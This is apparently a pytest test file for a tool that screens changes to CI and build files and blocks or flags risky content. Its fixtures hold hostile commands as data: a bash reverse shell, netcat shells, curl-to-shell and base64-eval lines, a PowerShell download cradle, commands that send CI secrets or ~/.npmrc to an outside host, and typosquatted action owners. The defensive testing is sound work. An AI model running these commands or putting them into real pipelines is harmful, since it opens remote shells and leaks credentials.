"""What a change brings to files that run in continuous integration: told by its content, and only if it is new."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gatekeeper.checks import run_checks
from gatekeeper.evidence.workflows import PLACES, gather_workflow, place_of
from gatekeeper.model import Finding, Ruling
from gatekeeper.policy import Policy, ruling_of
from gatekeeper.tree import MAY_MATTER

WORKFLOW = ".github/workflows/build.yml"
HEAD = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
ID = "0123456789abcdef0123456789abcdef01234567"
RAW_SHELL = "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"
POM = (
    "<project><configuration><executable>bash</executable><arguments><argument>-c</argument>"
    "<argument><![CDATA[{}]]></argument></arguments></configuration></project>"
)
ALLOW, ASK, BLOCK = Ruling.ALLOW, Ruling.ASK, Ruling.BLOCK


def found(now: str, *before: str, path: str = WORKFLOW) -> tuple[Finding, ...]:
    return run_checks(gather_workflow(path, now.encode(), [each.encode() for each in before]))


def ruling(now: str, *before: str, path: str = WORKFLOW) -> Ruling:
    return ruling_of(found(now, *before, path=path), Policy())


def checks(now: str, *before: str, path: str = WORKFLOW) -> set[str]:
    return {each.check for each in found(now, *before, path=path)}


def run(*lines: str, above: str = HEAD) -> str:
    return above + "      - run: |\n" + "".join(f"          {line}\n" for line in lines)


def uses(*names: str) -> str:
    return HEAD + "".join(f"      - uses: {name}\n" for name in names)


class TestPlaces:
    @pytest.mark.parametrize(
        ("path", "kind"),
        [
            (".github/workflows/a.yml", "workflow"),
            ("sub/.github/workflows/a.yaml", "workflow"),
            (".github/actions/setup/action.yml", "action"),
            (".gitlab-ci.yml", "gitlab"),
            (".gitlab-ci-release.yml", "gitlab"),
            ("Jenkinsfile", "jenkins"),
            ("ci/Jenkinsfile.release", "jenkins"),
            (".circleci/config.yml", "circleci"),
            (".travis.yml", "travis"),
            ("azure-pipelines.yml", "azure"),
            ("azure-pipelines-release.yaml", "azure"),
            ("Makefile", "make"),
            ("sub/CMakeLists.txt", "cmake"),
            ("app/build.gradle", "gradle"),
            ("build.gradle.kts", "gradle"),
            ("pom.xml", "maven"),
        ],
    )
    def test_each_of_the_ten_is_known_by_its_path(self, path: str, kind: str) -> None:
        assert place_of(path) == kind

    def test_none_of_them_is_passed_over_by_a_look_at_the_name_alone(self) -> None:
        more = (".gitlab/ci/a.yml", "settings.gradle", "GNUmakefile", "rules.mk", "a.cmake", ".azure-pipelines/a.yml")
        assert all(MAY_MATTER.search(path) for path in (*PATHS, *more))
        assert all(place_of(path) for path in more)

    @pytest.mark.parametrize("path", ["README.md", "docs/workflows.yml", "requirements.txt", ".github/dependabot.yml"])
    def test_other_files_are_none(self, path: str) -> None:
        assert place_of(path) is None

    @pytest.mark.parametrize(
        ("path", "template"),
        [
            (WORKFLOW, HEAD + "      - run: |\n          make\n          {}\n"),
            (WORKFLOW, HEAD + "      - run: {}\n"),
            ("action.yml", "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: {}\n"),
            (".gitlab-ci.yml", "build:\n  script:\n    - make\n    - {}\n"),
            (".gitlab-ci.yml", ".base: &base\n  before_script: [make]\nbuild:\n  <<: *base\n  script: {}\n"),
            (".gitlab-ci.yml", "build:\n  script:\n    - !reference [.base, script]\n    - {}\n"),
            (".circleci/config.yml", "jobs:\n  a:\n    steps:\n      - run: {}\n"),
            (
                ".circleci/config.yml",
                "jobs:\n  a:\n    steps:\n      - run:\n          name: x\n          command: {}\n",
            ),
            (".travis.yml", "language: c\nbefore_install:\n  - {}\n"),
            ("azure-pipelines.yml", "steps:\n  - bash: {}\n"),
            ("Jenkinsfile", "node {{\n  stage('build') {{\n    sh '{}'\n  }}\n}}\n"),
            ("Jenkinsfile", 'node {{\n  sh(script: """\n    make\n    {}\n  """)\n}}\n'),
            ("Jenkinsfile", "def p = ['sh', '-c', '{}'].execute()\n"),
            ("Makefile", "all:\n\tcc a.c\n\t@{}\n"),
            ("Makefile", "NAME := $(shell {})\nall:\n\tcc a.c\n"),
            ("Makefile", "STEP = {}\nall:\n\t$(STEP)\n"),
            ("CMakeLists.txt", 'execute_process(COMMAND bash -c "{}" OUTPUT_QUIET)\n'),
            ("CMakeLists.txt", 'add_custom_target(x ALL COMMAND make COMMAND sh -c "{}")\n'),
            ("build.gradle", "task x(type: Exec) {{\n  commandLine 'sh', '-c', '{}'\n}}\n"),
            ("build.gradle.kts", 'tasks.register<Exec>("x") {{\n  commandLine("sh", "-c", "{}")\n}}\n'),
            ("pom.xml", POM),
            ("pom.xml", '<project><exec executable="bash"><arg value="-c"/><arg value="{}"/></exec></project>'),
        ],
    )
    def test_in_each_of_them_a_raw_shell_is_refused_and_a_plain_build_is_not(self, path: str, template: str) -> None:
        shell = RAW_SHELL.replace("&", "&amp;").replace(">", "&gt;") if "<arg " in template else RAW_SHELL
        assert ruling(template.format(shell), path=path) is BLOCK
        assert ruling(template.format("make test"), path=path) is ALLOW

    def test_a_finding_names_the_line_in_the_file(self) -> None:
        (first, *_) = found(run("make", "", RAW_SHELL))
        assert (first.file, first.line) == (WORKFLOW, 9)
        (first, *_) = found(f"a:\n\tcc a.c\n\ntest:\n\tcc b.c\n\t{RAW_SHELL}\n", path="Makefile")
        assert first.line == 6


class TestSecrets:
    @pytest.mark.parametrize(
        "steps",
        [
            "      - run: echo '${{ toJSON(secrets) }}' > all.json\n",
            '      - env:\n          ALL: ${{ toJson( secrets ) }}\n        run: curl -d "$ALL" https://files.example/\n',
            "      - env: {ALL: '${{ secrets }}'}\n        run: node send.js\n",
            "      - run: echo ${{ join(secrets.*, ',') }}\n",
            "      - run: echo '${{ toJSON(" + " " * 5000 + "secrets) }}' > all.json\n",
            "      - run: echo '${{ toJSON(SECRETS) }}' > all.json\n",
            "      - run: env | base64 -w0 | curl -d @- https://files.example/\n",
            "      - run: printenv | curl -F f=@- https://files.example/\n",
            '      - run: curl "https://files.example/?q=$(env | base64 -w0)"\n',
            "      - run: echo ${{ secrets.TOKEN }} | base64 | base64\n",
            '      - run: curl -d "$(echo ${{ secrets.TOKEN }} | base64)" https://files.example/\n',
            "      - run: nslookup $(echo ${{ secrets.TOKEN }} | xxd -p).files.example\n",
            "      - run: curl -T ~/.npmrc https://files.example/\n",
            "      - run: env | nc files.example 4444\n",
        ],
    )
    def test_handing_them_all_out_or_hiding_one_is_refused(self, steps: str) -> None:
        assert ruling(HEAD + steps) is BLOCK
        assert "secrets-dumped" in checks(HEAD + steps)

    @pytest.mark.parametrize(
        "steps",
        [
            "      - run: curl -d 'k=${{ secrets.TOKEN }}' https://files.example/\n",
            "      - env: {T: '${{ secrets.TOKEN }}'}\n        run: curl -d \"k=$T\" https://files.example/\n",
            "      - uses: owner/action@v1\n        with:\n          secrets: ${{ toJSON(secrets) }}\n",
        ],
    )
    def test_one_in_a_message_and_all_for_an_action_are_questions(self, steps: str) -> None:
        assert ruling(HEAD + steps) is ASK

    @pytest.mark.parametrize(
        "steps",
        [
            '      - run: |\n          curl -H "Authorization: Bearer ${{ secrets.TOKEN }}" https://api.example/deploy\n',
            '      - run: |\n          curl -X POST -d \'{"text": "done"}\' ${{ secrets.CHAT_HOOK }}\n',
            "      - run: echo ${{ secrets.KEY }} | base64 -d > key.json\n",
            "      - env: {T: '${{ secrets.TOKEN }}'}\n        run: twine upload -p \"$T\" dist/*\n",
            "      - run: env | sort\n",
            "      - if: contains(toJSON(secrets), 'TOKEN')\n        run: make\n",
            "      - run: make\n        env:\n          T: ${{ secrets['TOKEN'] }}\n",
            "      - run: echo 'the secrets of our garden'\n",
            "      - run: curl -d ok=${{ secrets.T }} http://localhost:8080/\n",
            "  b:\n    uses: ./.github/workflows/b.yml\n    secrets: inherit\n",
        ],
    )
    def test_what_secrets_are_for_is_no_finding(self, steps: str) -> None:
        assert ruling(HEAD + steps) is ALLOW


class TestActions:
    @pytest.mark.parametrize(
        ("before", "now"),
        [
            ("actions/checkout@v4", "actions/checkout@v5"),
            (f"actions/checkout@{ID} # v4", f"actions/checkout@{ID[::-1]} # v5"),
            ("actions/checkout@v4", f"actions/checkout@{ID}"),
            ("softprops/action-gh-release@v1", "softprops/action-gh-release@v2"),
            ("owner/action@v1.2", "owner/action@v1.3"),
            ("owner/action@main", "owner/action@v1"),
            ("docker://image.example/a:1", "docker://image.example/a:2"),
        ],
    )
    def test_the_bump_of_a_bot_passes_by_what_it_is(self, before: str, now: str) -> None:
        assert ruling(uses(now), uses(before)) is ALLOW

    def test_a_new_action_by_a_number_is_only_mentioned(self) -> None:
        assert ruling(uses("owner/action@v1")) is ALLOW
        assert checks(uses("owner/action@v1")) == {"unpinned-action"}
        assert checks(uses(f"owner/action@{ID}", "./local", f"docker://a@sha256:{ID}")) == set()

    def test_a_new_action_by_a_branch_is_a_question_unless_its_owner_is_well_known(self) -> None:
        assert ruling(uses("owner/action@main")) is ASK
        assert ruling(uses("dtolnay/rust-toolchain@stable")) is ALLOW

    def test_an_action_that_is_no_longer_pinned_is_a_question(self) -> None:
        assert ruling(uses("owner/action@v2"), uses(f"owner/action@{ID}")) is ASK

    @pytest.mark.parametrize(
        "owner",
        ["acitons", "action", "actionss", "acti0ns", "\u0430ctions", "githubb", "dockerr", "hashic0rp", "peter-evens"],
    )
    def test_an_owner_who_passes_for_another_is_refused(self, owner: str) -> None:
        assert "lookalike-action" in checks(uses(f"{owner}/checkout@{ID}"))
        assert ruling(uses(f"{owner}/checkout@{ID}")) is BLOCK

    @pytest.mark.parametrize("owner", ["Actions", "DOCKER", "sometinyorg", "my-actions", "ruby2"])
    def test_others_are_not(self, owner: str) -> None:
        assert "lookalike-action" not in checks(uses(f"{owner}/checkout@{ID}"))

    def test_files_from_elsewhere_count_too(self) -> None:
        assert ruling("include:\n  - remote: https://files.example/ci.yml\n", path=".gitlab-ci.yml") is ASK
        assert ruling("include:\n  - local: /ci.yml\n", path=".gitlab-ci.yml") is ALLOW
        assert ruling("orbs:\n  x: owner/orb@volatile\n", path=".circleci/config.yml") is ASK
        assert ruling("orbs:\n  x: owner/orb@1.2.3\n", path=".circleci/config.yml") is ALLOW


class TestTriggers:
    def test_strangers_code_beside_secrets_is_a_question(self) -> None:
        step = "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
        stranger = HEAD.replace("on: push", "on: [push, pull_request_target]")
        assert ruling(stranger + step) is ASK
        assert ruling(HEAD.replace("push", "pull_request") + step) is ALLOW
        assert ruling(stranger + "      - run: make\n") is ALLOW
        assert ruling(stranger + "      - run: gh pr checkout 5 && make\n") is ASK

    def test_a_trigger_that_is_added_to_an_old_checkout_is_new(self) -> None:
        step = "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.head_ref }}'}\n"
        now = HEAD.replace("on: push", "on:\n  pull_request_target:\n    types: [opened]")
        assert ruling(now + step, HEAD + step) is ASK
        assert ruling(now + step, now + step) is ALLOW

    @pytest.mark.parametrize(
        ("old", "new"),
        [
            ("runs-on: ubuntu-latest", "runs-on: self-hosted"),
            ("runs-on: ubuntu-latest", "runs-on: [self-hosted, linux]"),
            ("on: push", "on: push\npermissions: write-all"),
        ],
    )
    def test_own_runners_and_all_rights_are_questions_when_they_are_new(self, old: str, new: str) -> None:
        now = HEAD.replace(old, new) + "      - run: make\n"
        assert ruling(now) is ASK
        assert ruling(now + "      - run: make test\n", now) is ALLOW


class TestScripts:
    @pytest.mark.parametrize(
        "line",
        [
            RAW_SHELL,
            "echo aGk= | base64 -d | bash",
            "curl -s http://files.example/a | sh",
            "curl -s https://192.0.2.7/a | sh",
            "nc -e /bin/sh 192.0.2.1 4444",
            "eval $(echo dHJ1ZQ== | base64 -d)",
        ],
    )
    def test_what_no_build_needs_is_refused(self, line: str) -> None:
        assert ruling(run("make", line)) is BLOCK

    @pytest.mark.parametrize(
        "line",
        ["curl -sSf https://files.example/i.sh | sh", "bash <(curl -s https://files.example/i.sh)",
         'sh -c "$(curl -fsSL https://files.example/i.sh)"', "wget -qO- https://files.example/i.py | python3 -"],
    )  # fmt: skip
    def test_an_installer_that_is_piped_into_a_shell_is_a_question_when_it_is_new(self, line: str) -> None:
        assert ruling(run(line)) is ASK
        assert ruling(run("make", line, "make test"), run(line)) is ALLOW

    @pytest.mark.parametrize(
        "line",
        [
            "npm ci && npm test",
            "pip install -r requirements.txt",
            "curl -LO https://files.example/tool.tgz && tar xf tool.tgz && ./tool --version",
            "uname -a; whoami; hostname",
            "rm -rf build dist",
            "ssh-keyscan code.example >> ~/.ssh/known_hosts",
            'echo "PATH=$HOME/bin:$PATH" >> $GITHUB_ENV',
            "docker run --rm -v $PWD:/src image.example/a:1 make",
            "git config user.name bot && git push origin HEAD",
            'gh release create "$TAG" --notes "${{ github.event.release.body }}"',
            "sudo apt-get install -y gcc",
            "python -c 'import sys; print(sys.version)'",
            "for row in $(echo $ROWS | jq -r '.[] | @base64'); do C=$(echo $row | base64 --decode); $C; done",
            "hdiutil create -srcfolder dist x.dmg; codesign -s $ID x.dmg",
        ],
    )
    def test_a_days_work_is_no_finding(self, line: str) -> None:
        assert ruling(run(line)) is ALLOW

    @pytest.mark.parametrize(
        "steps",
        [
            "      - env: {CMD: 'SHELL'}\n        run: ${{ env.CMD }}\n",
            "      - env: {CMD: 'SHELL'}\n        run: eval \"$CMD\"\n",
            "    strategy:\n      matrix:\n        cmd: ['SHELL']\n    steps:\n      - run: ${{ matrix.cmd }}\n",
            "      - uses: owner/ssh@v1\n        with:\n          script: |\n            make\n            SHELL\n",
            "      - shell: bash -c 'SHELL' {0}\n        run: make\n",
        ],
    )
    def test_code_that_goes_round_by_a_value_is_found(self, steps: str) -> None:
        head = HEAD.removesuffix("    steps:\n") if "    steps:" in steps else HEAD
        assert ruling(head + steps.replace("SHELL", RAW_SHELL)) is BLOCK
        assert ruling(head + steps.replace("SHELL", "make test")) is ALLOW

    @pytest.mark.parametrize("line", ["printf -- '%s' x", "echo -e -n x", "echo -e -e x | cat"])
    def test_options_of_what_prints_are_read_to_their_end(self, line: str) -> None:
        assert ruling(run(line)) is ALLOW

    def test_what_is_said_to_people_is_no_code(self) -> None:
        assert ruling("name: x\ndescription: like curl https://files.example/i.sh | sh\n", path="action.yml") is ALLOW

    def test_other_languages_are_read_in_their_own_way(self) -> None:
        step = "      - shell: python\n        run: |\n          import base64\n          exec(base64.b64decode(b'aGVsbG8='))\n"
        assert ruling(HEAD + step) is BLOCK
        step = "      - uses: actions/github-script@v7\n        with:\n          script: eval(Buffer.from('aGk=', 'base64').toString())\n"
        assert ruling(HEAD + step) is BLOCK
        step = (
            "      - shell: pwsh\n        run: IEX(New-Object Net.WebClient).DownloadString('http://files.example/a')\n"
        )
        assert ruling(HEAD + step) is BLOCK

    def test_a_step_in_a_language_that_is_not_read_is_mentioned(self) -> None:
        (only,) = found(HEAD + "      - shell: Rscript {0}\n        run: print(1)\n")
        assert only.check == "not-fully-read"


class TestOnlyWhatIsNew:
    def test_bad_old_lines_are_not_this_changes_fault(self) -> None:
        old = run(RAW_SHELL) + uses("acitons/checkout@v1")[len(HEAD) :]
        assert ruling(old, old) is ALLOW
        assert ruling(old + "      - run: make\n", old) is ALLOW
        moved = HEAD + "      - run: make\n" + old[len(HEAD) :]
        assert ruling(moved, old) is ALLOW
        assert ruling(old.replace("ubuntu-latest", "ubuntu-24.04"), old) is ALLOW

    def test_a_line_that_is_added_to_an_old_script_is_new(self) -> None:
        assert ruling(run("make", RAW_SHELL), run("make")) is BLOCK

    def test_a_variable_that_fills_up_under_an_old_line_is_new(self) -> None:
        step = '      - run: curl -d "$NOTE" https://files.example/\n        env:\n          NOTE: {}\n'
        assert ruling(HEAD + step.format("done"), "") is ALLOW
        assert ruling(HEAD + step.format("${{ toJSON(secrets) }}"), HEAD + step.format("done")) is BLOCK

    def test_a_renamed_file_is_held_against_what_went_away(self) -> None:
        assert ruling(run(RAW_SHELL), run("make"), run(RAW_SHELL)) is ALLOW

    def test_that_dependencies_change_too_is_a_note(self) -> None:
        facts = gather_workflow(WORKFLOW, uses("actions/checkout@v5").encode(), [], rides=True)
        assert "rides-along" in {each.check for each in run_checks(facts)}
        assert ruling_of(run_checks(facts), Policy()) is ALLOW


class TestUnreadable:
    @pytest.mark.parametrize(
        ("path", "text"),
        [
            (WORKFLOW, "on: [push\njobs:"),
            (WORKFLOW, "on: push\u2028jobs: {}"),
            (WORKFLOW, "a: " + "[" * 200 + "]" * 200),
            (WORKFLOW, "a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n" + "".join(
                f"{new}: &{new} [{', '.join(['*' + old] * 9)}]\n" for old, new in zip("bcdefgh", "cdefghi", strict=True)
            )),
            (WORKFLOW, "x" * (1 << 20) + "y"),
            (WORKFLOW, "on: push\n\x00"),
            ("pom.xml", "<project><a></project>"),
            ("pom.xml", '<!DOCTYPE p [<!ENTITY a "b">]><project/>'),
        ],
    )  # fmt: skip
    def test_what_cannot_be_read_is_a_question_and_never_clean(self, path: str, text: str) -> None:
        assert checks(text, path=path) == {"not-fully-read"}
        assert ruling(text, path=path) is ASK

    def test_bytes_that_are_no_text_are_a_question(self) -> None:
        facts = gather_workflow(WORKFLOW, b"on: \xff\xfe", [])
        assert ruling_of(run_checks(facts), Policy()) is ASK


PATHS = [WORKFLOW, "action.yml", ".gitlab-ci.yml", ".circleci/config.yml", ".travis.yml", "azure-pipelines.yml",
         "Jenkinsfile", "Makefile", "CMakeLists.txt", "build.gradle", "pom.xml"]  # fmt: skip
WORDS = ["on:", "jobs:", "run:", "script:", "uses:", "with:", "env:", "- ", "|\n", "\n  ", "\n\t", "${{ secrets }}", "$(",
         ")", "`", "'", '"', "'''", "sh ", "COMMAND", "execute_process(", "[", "]", "{", "}", "<exec>", "<arg>", "&a ",
         "*a", "curl x | sh", "env | base64", "\\", "@", "/", ":", "\x00", "é", "self-hosted", "execute("]  # fmt: skip


def test_the_paths_of_the_fuzz_cover_every_kind() -> None:
    assert {place_of(path) for path in PATHS} == {name for name, _, _ in PLACES}


@given(
    path=st.sampled_from(PATHS),
    now=st.lists(st.sampled_from(WORDS), max_size=40).map("".join) | st.text(max_size=200),
    before=st.lists(st.sampled_from(WORDS), max_size=40).map("".join),
)
@example(path=WORKFLOW, now="- &a [*a]", before="")
@example(path=WORKFLOW, now="? [a]\n: b", before="")
@example(path=WORKFLOW, now="on: push\nruns-on: {a: self-hosted}", before="on: {[a]: b}")
def test_no_text_makes_the_reading_fail_and_nothing_is_new_against_itself(path: str, now: str, before: str) -> None:
    facts = gather_workflow(path, now.encode("utf-8", "surrogatepass"), [before.encode()])
    assert all(notice.place is not None and notice.place.line for notice in facts.notices)
    again = gather_workflow(path, before.encode(), [before.encode()])
    assert not again.behaviours
    assert not again.notices


@given(st.binary(max_size=300), st.sampled_from(PATHS))
def test_nor_do_bytes(content: bytes, path: str) -> None:
    run_checks(gather_workflow(path, content, []))


def test_every_well_known_owner_is_written_in_small_letters_once() -> None:
    from gatekeeper.evidence._workflow_actions import owners

    assert len(set(owners().names)) == len(owners().names)
    assert all(re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name) for name in owners().names)
